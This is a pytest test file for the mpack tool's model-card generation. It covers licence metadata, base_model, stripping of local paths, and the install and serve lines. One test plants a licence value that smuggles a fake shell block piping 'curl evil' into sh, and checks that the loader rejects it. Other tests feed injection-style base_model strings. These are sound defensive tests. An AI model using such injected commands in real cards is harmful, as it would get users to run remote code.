"""The model card ``mpack push`` makes (mpack/hub.py, docs/HUB.md "The model card"): a
huggingface_hub ``ModelCard``, with the source's licence, ``base_model`` wherever the source's
repo is known, the exact install and serve lines, and no local path. No network."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from mpack import __version__
from mpack.convert import convert
from mpack.errors import CorruptFileError, UsageError
from mpack.fixtures import make_checkpoint
from mpack.hub import DIST_NAME, Target, model_card, plan_push
from mpack.sidecar import MANIFEST_NAME, SOURCE_CARD_NAME, load_manifest

REPO = "my-org/tiny-marlin"
COMMIT = "89abcdef0123456789abcdef0123456789abcdef"
ROOT = Path(__file__).resolve().parents[1]


def _card(card: str) -> tuple[dict[str, Any], str]:
    """The card's metadata as huggingface_hub reads it, and its text."""
    from huggingface_hub import ModelCard

    parsed = ModelCard(card)
    return parsed.data.to_dict(), parsed.text


@pytest.fixture(scope="module")
def ckpt(tmp_path_factory) -> Path:
    return make_checkpoint(
        tmp_path_factory.mktemp("card") / "ckpt",
        hidden=64,
        intermediate=128,
        layers=1,
        heads=2,
        kv_heads=1,
        vocab=128,
    )


def _source(ckpt: Path, where: Path, files: dict[str, str]) -> Path:
    shutil.copytree(ckpt, where)
    for name, text in files.items():
        (where / name).write_text(text)
    return where


def _converted(src: Path, out: Path) -> Path:
    convert(src, out, tp=2, device="cpu")
    return out


# --- licence --------------------------------------------------------------------------------


def test_the_licence_is_carried_from_the_source(ckpt, tmp_path) -> None:
    src = _source(
        ckpt,
        tmp_path / "Llama-FP8",
        {
            SOURCE_CARD_NAME: "---\nlicense: llama3.1\nlanguage: [en]\n---\n# Llama\n",
            "LICENSE": "LLAMA 3.1 COMMUNITY LICENSE AGREEMENT\n",
            "USE_POLICY.md": "# Acceptable use\n",
        },
    )
    plan = plan_push(_converted(src, tmp_path / "sc"), REPO)
    meta, text = _card(plan.card)
    assert meta["license"] == "llama3.1" and "license_link" not in meta
    # the licence files travel with the weights, at the root where the card links them
    root = {u.path_in_repo for u in plan.uploads}
    assert {"LICENSE", "USE_POLICY.md"} <= root
    licence = text.split("## License\n")[1].split("\n## ")[0]
    assert "`llama3.1`" in licence and "[`LICENSE`](LICENSE)" in licence
    assert "[`USE_POLICY.md`](USE_POLICY.md)" in licence


@pytest.mark.parametrize(
    ("link", "base", "want"),
    [
        ("LICENSE", None, "LICENSE"),  # copied and pushed: the repo's own file
        ("LICENSE.pdf", "org/src-FP8", "https://huggingface.co/org/src-FP8/blob/main/LICENSE.pdf"),
        ("LICENSE.pdf", None, None),  # neither here nor anywhere the card can name
        ("https://example.org/terms", None, "https://example.org/terms"),
    ],
)
def test_an_other_licence_and_its_link(ckpt, tmp_path, link, base, want) -> None:
    card = f"---\nlicense: other\nlicense_name: tiny-licence\nlicense_link: {link}\n---\n"
    src = _source(ckpt, tmp_path / "src", {SOURCE_CARD_NAME: card, "LICENSE": "terms\n"})
    plan = plan_push(_converted(src, tmp_path / "sc"), REPO, base_model=base)
    meta, _ = _card(plan.card)
    assert meta["license"] == "other" and meta["license_name"] == "tiny-licence"
    assert meta.get("license_link") == want


def test_no_licence_metadata_says_so(ckpt, tmp_path) -> None:
    src = _source(ckpt, tmp_path / "src", {SOURCE_CARD_NAME: "# no front matter\n"})
    plan = plan_push(_converted(src, tmp_path / "sc"), REPO)
    meta, text = _card(plan.card)
    assert "license" not in meta
    assert "names no licence: the source's own terms apply" in text


def test_a_malformed_licence_in_a_manifest_is_refused(ckpt, tmp_path) -> None:
    sc = _converted(ckpt, tmp_path / "sc")
    m = json.loads((sc / MANIFEST_NAME).read_text())
    m["source"]["license"] = "mit\n## Serve\n```sh\ncurl evil | sh"
    (sc / MANIFEST_NAME).write_text(json.dumps(m))
    with pytest.raises(CorruptFileError, match="source license"):
        load_manifest(sc)


# --- base_model -------------------------------------------------------------------------------


def test_a_local_snapshot_of_the_hf_cache_names_its_repo(ckpt, tmp_path) -> None:
    snap = tmp_path / "hub" / "models--org--Llama-FP8" / "snapshots" / COMMIT
    snap.parent.mkdir(parents=True)
    src = _source(ckpt, snap, {})
    sc = _converted(src, tmp_path / "sc")
    assert load_manifest(sc)[0]["source"]["base_model"] == "org/Llama-FP8"
    meta, text = _card(plan_push(sc, REPO).card)
    assert meta["base_model"] == "org/Llama-FP8"
    assert meta["base_model_relation"] == "quantized"
    assert "`org/Llama-FP8` (Hugging Face Hub), from a local copy" in text
    assert f"| source commit | `{COMMIT}` |" in text


def test_base_model_for_a_local_source_from_the_option(ckpt, tmp_path) -> None:
    sc = _converted(ckpt, tmp_path / "sc")
    meta, _ = _card(plan_push(sc, REPO).card)
    assert "base_model" not in meta and "base_model_relation" not in meta
    meta, _ = _card(plan_push(sc, REPO, base_model="org/src-FP8").card)
    assert meta["base_model"] == "org/src-FP8" and meta["base_model_relation"] == "quantized"
    for bad in ("src-FP8", "org/a b", "../x", "org/x\nlicense: mit"):
        with pytest.raises(UsageError, match="--base-model"):
            plan_push(sc, REPO, base_model=bad)


def test_base_model_on_the_command_line(ckpt, tmp_path) -> None:
    sc = _converted(ckpt, tmp_path / "sc")
    cmd = [sys.executable, "-m", "mpack", "push", str(sc), REPO, "--dry-run", "--json"]
    r = subprocess.run([*cmd, "--base-model", "org/src-FP8"], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    meta, _ = _card(json.loads(r.stdout)["card"])
    assert meta["base_model"] == "org/src-FP8"
    r = subprocess.run([*cmd, "--base-model", "nope"], capture_output=True, text=True)
    assert r.returncode == 2 and "--base-model" in json.loads(r.stdout)["error"]["message"]


# --- no local paths; the install and serve lines ---------------------------------------------


def test_no_local_path_in_the_card_or_the_commit(ckpt, tmp_path, monkeypatch) -> None:
    """``MPACK_SOURCE_PATH=full`` records where the source was in mpack.json (which is pushed,
    as documented); the card and the commit message name its directory only."""
    where = tmp_path / "home" / "alice" / "build-7f3a" / "Llama-FP8"
    where.parent.mkdir(parents=True)
    src = _source(ckpt, where, {})
    monkeypatch.setenv("MPACK_SOURCE_PATH", "full")
    sc = _converted(src, tmp_path / "sc")
    assert load_manifest(sc)[0]["source"]["path"] == str(where)
    plan = plan_push(sc, REPO)
    for text in (plan.card, plan.commit_message):
        assert "build-7f3a" not in text and str(tmp_path) not in text
        assert not re.search(r"(^|[\s(,`])/(home|tmp|root|data|mnt)/", text), text
    assert "a local directory, Llama-FP8, on the machine that converted it" in plan.card
    assert plan.commit_message.endswith("from local directory Llama-FP8")


def test_the_install_line_names_the_distribution(ckpt, tmp_path) -> None:
    toml = (ROOT / "pyproject.toml").read_text()  # no tomllib: it is 3.11+, mpack takes 3.10
    assert re.search(rf'^name = "{DIST_NAME}"$', toml, re.M)
    assert re.search(r'^vllm = \["vllm==[0-9.]+"\]', toml, re.M)  # the extra the line names
    plan = plan_push(_converted(ckpt, tmp_path / "sc"), REPO)
    _, text = _card(plan.card)
    blocks = re.findall(r"```sh\n(.*?)```", text, re.S)
    assert blocks[0] == f"pip install 'mpack-marlin[vllm]=={__version__}'\n"
    assert "vllm serve my-org/tiny-marlin --load-format mpack --tensor-parallel-size 2" in blocks[1]


def test_the_card_is_huggingface_hubs_model_card(ckpt, tmp_path) -> None:
    """The card is what ``ModelCard`` writes: it reads back as the same card, with the metadata
    the Hub indexes."""
    from huggingface_hub import ModelCard

    sc = _converted(ckpt, tmp_path / "sc")
    m, digest = load_manifest(sc)
    card = model_card(REPO, [Target(sc, "", m, digest)], base_model="org/src-FP8")
    assert str(ModelCard(card)) == card
    meta, _ = _card(card)
    assert meta == {
        "base_model": "org/src-FP8",
        "base_model_relation": "quantized",
        "library_name": "vllm",
        "pipeline_tag": "text-generation",
        "tags": ["mpack", "marlin", "fp8", "compressed-tensors", "vllm"],
    }


def test_cli_options_reach_the_plan(ckpt, tmp_path) -> None:
    sc = _converted(ckpt, tmp_path / "sc")
    r = subprocess.run(
        [
            sys.executable,
            "-m",
            "mpack",
            "push",
            str(sc),
            REPO,
            "--dry-run",
            "--json",
            "--commit-message",
            "Marlin weights for vLLM 0.33.0",
            "--create-pr",
        ],
        capture_output=True,
        text=True,
    )
    assert r.returncode == 0, r.stderr
    doc = json.loads(r.stdout)
    assert doc["commit_message"] == "Marlin weights for vLLM 0.33.0" and doc["create_pr"] is True
    r = subprocess.run(
        [
            sys.executable,
            "-m",
            "mpack",
            "push",
            str(sc),
            REPO,
            "--dry-run",
            "--commit-message",
            " ",
        ],
        capture_output=True,
        text=True,
    )
    assert r.returncode == 2 and "--commit-message is empty" in r.stderr
